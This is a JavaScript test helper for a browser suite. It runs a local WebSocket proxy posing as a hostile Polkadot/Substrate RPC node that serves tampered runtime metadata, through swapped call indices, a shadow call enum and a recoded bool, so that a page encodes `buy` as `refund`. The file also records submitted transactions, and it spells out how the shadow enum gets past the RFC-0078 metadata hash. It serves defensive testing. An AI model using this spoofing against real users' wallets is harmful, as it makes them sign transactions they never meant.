// A hostile RPC node for the browser suite: a WebSocket proxy in front of a real node that
// passes every request and answer through, except the runtime's metadata, which it
// serves altered by one of three lies. The first two make a page built on it encode
// `buy(ito, amount)` as the runtime's `refund(ito, tokens)` and decode it back as `buy`
// for its confirmation:
// - swapCalls: the two calls swap indices in the pallet's call enum (which RFC-0078's hash
//   covers);
// - shadowCalls: a swapped copy of that enum that only the pallet's entry points to (which
//   the hash does not cover).
// The third is for an argument rather than a call: recodeBool gives a bool argument
// another codec under the same hash.
// The proxy also keeps every transaction submitted through it, as sent.
import { WebSocket, WebSocketServer } from 'ws';
import { compactFromU8a, compactToU8a, hexToU8a, u8aConcat, u8aToHex } from '@polkadot/util';

/// `metadata` (SCALE bytes of a `Metadata`: magic, version, body) changed by
/// `change(body)` (its JSON form) and encoded again with `registry`.
function rewrite(registry, metadata, change) {
  const json = registry.createType('Metadata', metadata).toJSON();
  change(Object.values(json.metadata)[0]);
  return registry.createType('Metadata', json).toU8a();
}

/// The entry of `pallet` in `body`'s pallet list that names its call enum (`{ type }`).
const palletCalls = (body, pallet) => body.pallets.find((p) => p.name === pallet).calls;

/// The lookup entry of `pallet`'s call enum in `body`.
const callEnum = (body, pallet) => body.lookup.types.find((t) => t.id === palletCalls(body, pallet).type);

/// Swap the indices of the variants `a` and `b` of the enum lookup entry `entry`.
function swapIndices(entry, [a, b]) {
  const [x, y] = [a, b].map((name) => entry.type.def.variant.variants.find((v) => v.name === name));
  [x.index, y.index] = [y.index, x.index];
}

/// `metadata` with the calls `a` and `b` of `pallet` swapped.
export function swapCalls(registry, metadata, pallet, calls) {
  return rewrite(registry, metadata, (body) => swapIndices(callEnum(body, pallet), calls));
}

/// `metadata` with a copy of `pallet`'s call enum, calls `a` and `b` swapped in it, added
/// as a new type that nothing else refers to, and the pallet's entry pointed at it. The
/// outer call type, and so every type RFC-0078's hash covers, is untouched: the metadata
/// hashes as the runtime's own, while @polkadot/api (which builds `api.tx` from the
/// pallet's entry) encodes `a` as `b`.
export function shadowCalls(registry, metadata, pallet, calls) {
  return rewrite(registry, metadata, (body) => {
    const copy = structuredClone(callEnum(body, pallet));
    copy.id = body.lookup.types.length;
    swapIndices(copy, calls);
    body.lookup.types.push(copy);
    palletCalls(body, pallet).type = copy.id;
  });
}

/// `metadata` with the argument `field` of `pallet`'s call `call` pointed at a new type: a
/// bool with the path `primitive_types::Pays`. RFC-0078 hashes a primitive inline, by kind
/// only, so the hash is the runtime's own; @polkadot/types resolves that path to its
/// `Pays` enum (`Yes` = 0), so a page asked for `true` encodes `false` and shows "Yes".
export function recodeBool(registry, metadata, pallet, [call, field]) {
  return rewrite(registry, metadata, (body) => {
    const variant = callEnum(body, pallet).type.def.variant.variants.find((v) => v.name === call);
    const id = body.lookup.types.length;
    body.lookup.types.push({ id, type: { path: ['primitive_types', 'Pays'], params: [], def: { primitive: 'Bool' }, docs: [] } });
    variant.fields.find((f) => f.name === field).type = id;
  });
}

/// Listen on 127.0.0.1:`port` and relay to `upstream` (a node's ws:// address), answering
/// `state_getMetadata` and `state_call("Metadata_metadata_at_version", …)` with the
/// metadata passed through `alter`. Resolves with `{ submitted, close() }`.
export async function lyingNode(port, upstream, alter) {
  const submitted = [];
  const server = new WebSocketServer({ host: '127.0.0.1', port });
  server.on('connection', (client) => {
    const node = new WebSocket(upstream);
    const early = [];
    const asked = new Map(); // request id -> request, for the answers to alter
    node.on('open', () => early.splice(0).forEach((m) => node.send(m)));
    client.on('message', (data) => {
      const text = data.toString();
      const request = JSON.parse(text);
      if (request.method === 'state_getMetadata' || (request.method === 'state_call' && request.params?.[0] === 'Metadata_metadata_at_version')) {
        asked.set(request.id, request);
      }
      if (/^author_submit/.test(request.method ?? '')) submitted.push(request.params[0]);
      if (node.readyState === WebSocket.OPEN) node.send(text);
      else early.push(text);
    });
    node.on('message', (data) => {
      const answer = JSON.parse(data.toString());
      const request = asked.get(answer.id);
      if (request && typeof answer.result === 'string') {
        asked.delete(answer.id);
        answer.result = request.method === 'state_getMetadata'
          ? u8aToHex(alter(hexToU8a(answer.result)))
          : optionOpaque(alter, hexToU8a(answer.result));
      }
      client.send(JSON.stringify(answer));
    });
    client.on('close', () => node.close());
    client.on('error', () => node.close());
    node.on('close', () => client.close());
    node.on('error', () => client.close());
  });
  await new Promise((resolve, reject) => server.once('listening', resolve).once('error', reject));
  return {
    submitted,
    close: () => new Promise((resolve) => {
      for (const c of server.clients) c.terminate();
      server.close(resolve);
    }),
  };
}

/// An `Option<OpaqueMetadata>` (SCALE: 1, the compact length, the bytes) with its
/// metadata altered; `None` (0x00) stays as it is.
function optionOpaque(alter, bytes) {
  if (bytes[0] !== 1) return u8aToHex(bytes);
  const [offset, length] = compactFromU8a(bytes.subarray(1));
  const altered = alter(bytes.subarray(1 + offset, 1 + offset + length.toNumber()));
  return u8aToHex(u8aConcat([1], compactToU8a(altered.length), altered));
}
